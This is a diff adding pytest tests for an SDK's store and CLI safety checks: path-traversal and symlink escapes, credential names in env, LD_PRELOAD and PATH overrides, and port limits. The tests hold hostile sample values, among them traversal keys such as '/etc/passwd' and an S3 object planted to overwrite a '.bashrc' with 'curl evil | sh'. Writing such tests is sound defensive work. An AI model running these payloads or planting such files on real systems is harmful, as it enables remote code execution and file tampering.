@@ -1,0 +1,118 @@
+"""Safe by default (issue 23, first part): nothing read from a store writes outside its folder, `--force` replaces
+only a previous fetch, credentials never go in `env`, and bad input is one line with exit 2."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+import sdk
+from sdk.errors import StoreError
+from sdk.store import contained, open_store
+
+ROOT = Path(__file__).resolve().parents[1]
+
+
+@pytest.mark.parametrize("key", ["/etc/passwd", "../x", "a/../../x", "a//etc/passwd", "a\\..\\x", "", ".", "a/./../.."])
+def test_keys_that_would_escape_are_refused(tmp_path, key):
+    with pytest.raises(StoreError, match="refusing"):
+        contained(tmp_path, key)
+
+
+def test_keys_inside_are_placed_inside(tmp_path):
+    assert contained(tmp_path, "a/b.txt") == (tmp_path / "a" / "b.txt").resolve()
+    assert contained(tmp_path, "a/b/") == (tmp_path / "a" / "b").resolve()
+
+
+def test_a_symlink_in_a_local_store_does_not_lead_out(tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "secret").write_text("private")
+    store_root = tmp_path / "store"
+    (store_root / "run").mkdir(parents=True)
+    (store_root / "run" / "metrics.jsonl").symlink_to(outside / "secret")
+    (store_root / "run" / "logs").symlink_to(outside, target_is_directory=True)
+    store = open_store(str(store_root))
+    with pytest.raises(StoreError, match="outside"):
+        store.get_bytes("run/metrics.jsonl")
+    with pytest.raises(StoreError, match="outside"):
+        store.put_bytes("run/logs/secret", b"overwritten")
+    assert (outside / "secret").read_text() == "private"
+
+
+def _planted_run(store_uri: str, keys: dict[str, bytes]) -> sdk.Run:
+    from sdk.runfolder import SPEC, RunFolder
+
+    folder = RunFolder(open_store(store_uri), "r1")
+    folder.write_json(SPEC, sdk.FineTuneSpec(model="tiny:llama", data="builtin:news-topics", output=store_uri).model_dump(mode="json"))
+    folder.write_status("succeeded")
+    for key, data in keys.items():
+        folder.store.put_bytes(key, data)
+    return sdk.Run(folder.uri)
+
+
+def test_fetch_all_refuses_a_key_planted_to_write_outside_dest(s3_env, tmp_path):
+    """A key `runs/r1//<absolute path>` in a shared bucket: joined naively it wrote to that absolute path."""
+    import boto3
+
+    env, bucket = s3_env
+    target = tmp_path / "victim" / ".bashrc"
+    run = _planted_run(f"s3://{bucket}/runs", {})
+    client = boto3.session.Session().client("s3", endpoint_url=env["AWS_ENDPOINT_URL"])
+    client.put_object(Bucket=bucket, Key=f"runs/r1/{target}", Body=b"curl evil | sh")  # '/r1/' + '/tmp/...'
+    assert any("//" in o["Key"] for o in client.list_objects_v2(Bucket=bucket, Prefix="runs/r1/")["Contents"])
+    dest = tmp_path / "fetched"
+    with pytest.raises(StoreError, match="refusing"):
+        run.fetch(dest)
+    assert not target.exists() and not dest.exists()  # nothing written, no half-fetched folder
+    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".fetched.partial")]
+
+
+def test_force_replaces_only_a_previous_fetch(tmp_path, monkeypatch, run_cli):
+    run = _planted_run(str(tmp_path / "store"), {"r1/metrics.jsonl": b'{"step": 1, "loss": 1.0}\n'})
+    first = run.fetch(tmp_path / "copy")
+    assert (first / "spec.json").is_file()
+    assert run.fetch(tmp_path / "copy", overwrite=True) == first  # a previous fetch: replaced
+    mine = tmp_path / "my-project"
+    mine.mkdir()
+    (mine / "notes.txt").write_text("keep me")
+    with pytest.raises(StoreError, match="not a previous fetch"):
+        run.fetch(mine, overwrite=True)
+    assert (mine / "notes.txt").read_text() == "keep me"
+    monkeypatch.chdir(mine)
+    with pytest.raises(StoreError, match="current or home directory"):
+        run.fetch(".", overwrite=True)
+    with pytest.raises(StoreError, match="current or home directory"):
+        run.fetch(tmp_path, overwrite=True)  # a parent of the current directory
+    result = run_cli("fetch", str(run.uri), str(mine), "--all", "--force", env={"FINETUNE_HOME": str(tmp_path / "home")})
+    assert result.returncode != 0 and "Traceback" not in result.stderr and (mine / "notes.txt").is_file()
+
+
+@pytest.mark.parametrize("name", ["HF_TOKEN", "WANDB_API_KEY", "AWS_SECRET_ACCESS_KEY", "DB_PASSWORD", "GCP_CREDENTIALS"])
+def test_a_credential_in_env_is_refused_with_a_pointer_to_secrets(name, run_cli, tmp_path):
+    result = run_cli("launch", "tiny", "--local", "--dry-run", f"--set=env.{name}=abc123", env={"FINETUNE_HOME": str(tmp_path)})
+    assert result.returncode == 2 and "Traceback" not in result.stderr
+    assert f"{name} looks like a credential" in result.stderr and f"secrets: [{name}]" in result.stderr
+    assert "abc123" not in result.stdout + result.stderr  # the value is not echoed back either
+
+
+@pytest.mark.parametrize("setting,message", [
+    ("env.LD_PRELOAD=/tmp/x.so", "LD_PRELOAD changes how every process"),
+    ("env.PATH=/tmp", "PATH changes how every process"),
+    ("output=s3://bkt/../x", "'.' and '..' are not folders"),
+])
+def test_bad_spec_values_are_one_line_errors(setting, message, run_cli, tmp_path):
+    result = run_cli("launch", "tiny", "--local", "--dry-run", f"--set={setting}", env={"FINETUNE_HOME": str(tmp_path)})
+    assert result.returncode == 2 and message in result.stderr and "Traceback" not in result.stderr
+
+
+@pytest.mark.parametrize("port", ["99999", "0", "-1"])
+def test_a_port_out_of_range_is_refused_at_once(port, tmp_path):
+    result = subprocess.run([sys.executable, "-m", "sdk.cli", "serve", "tiny", "--dry-run", "--port", port],
+                            capture_output=True, text=True, timeout=60, cwd=ROOT,
+                            env={**os.environ, "FINETUNE_HOME": str(tmp_path)})
+    assert result.returncode == 2 and "--port" in result.stderr and "Traceback" not in result.stderr
